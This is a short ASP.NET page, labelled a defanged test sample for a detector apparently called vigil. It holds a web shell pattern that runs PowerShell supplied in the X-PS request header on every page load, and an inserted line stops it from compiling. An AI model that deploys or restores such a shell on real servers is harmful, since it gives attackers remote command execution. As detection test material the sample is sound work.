<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<script runat="server">
void Page_Load() {
	Runspace r = RunspaceFactory.CreateRunspace();
	r.Open();
	Pipeline p = r.CreatePipeline(Request.Headers["X-PS"]);
	p.Invoke();
}
</script>
